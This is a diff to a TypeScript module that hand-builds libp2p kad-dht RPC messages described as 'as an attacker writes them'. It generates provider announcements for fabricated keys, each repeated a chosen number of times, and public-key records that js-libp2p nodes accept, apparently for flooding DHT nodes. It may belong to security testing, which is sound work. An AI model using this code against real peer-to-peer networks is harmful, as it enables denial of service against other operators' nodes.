@@ -1,25 +1,27 @@
 // Messages of the DHT (libp2p's kad-dht specification, "RPC messages") as an attacker writes them: length, then protobuf.
 import { sha256 } from '@noble/hashes/sha2.js'
+import { publicKeyToProtobuf } from '@libp2p/crypto/keys'
 import { multiaddr } from '@multiformats/multiaddr'
 import { concat } from 'uint8arrays/concat'
 import { fromString } from 'uint8arrays/from-string'
 import * as varint from 'uint8-varint'
-import type { PeerId } from '@libp2p/interface'
+import type { PeerId, PublicKey } from '@libp2p/interface'
 
 const TYPE = { putValue: 0, addProvider: 2 } as const
 const FIELD = { type: 1, key: 2, record: 3, providers: 9 } as const
 const ADDRESS = multiaddr('/ip4/127.0.0.1/tcp/4001').bytes
 
-/** "I provide this key", each number another key. */
-export function provide (number: number, provider: PeerId): Uint8Array {
+/** "I provide this key", each number another key, said so many times. */
+export function provide (number: number, provider: PeerId, times = 1): Uint8Array {
   const digest = sha256(fromString(`attack ${number}`))
   const cid = Uint8Array.of(1, 0x55, 0x12, 32, ...digest)
   const peer = concat([bytesField(1, provider.toMultihash().bytes), bytesField(2, ADDRESS)])
-  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.addProvider), bytesField(FIELD.key, cid), bytesField(FIELD.providers, peer)]))
+  return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.addProvider), bytesField(FIELD.key, cid), ...Array.from({ length: times }, () => bytesField(FIELD.providers, peer))]))
 }
 
 /** The peer's public key: a value that every js-libp2p node takes for valid. */
-export function putValue (peer: PeerId, publicKey: Uint8Array): Uint8Array {
+export function putValue (peer: PeerId): Uint8Array {
+  const publicKey = publicKeyToProtobuf(peer.publicKey as PublicKey)
   const key = concat([fromString('/pk/'), peer.toMultihash().bytes])
   const record = concat([bytesField(1, key), bytesField(2, publicKey), bytesField(5, fromString(new Date().toISOString()))])
   return framed(concat([Uint8Array.of(FIELD.type << 3, TYPE.putValue), bytesField(FIELD.key, key), bytesField(FIELD.record, record)]))
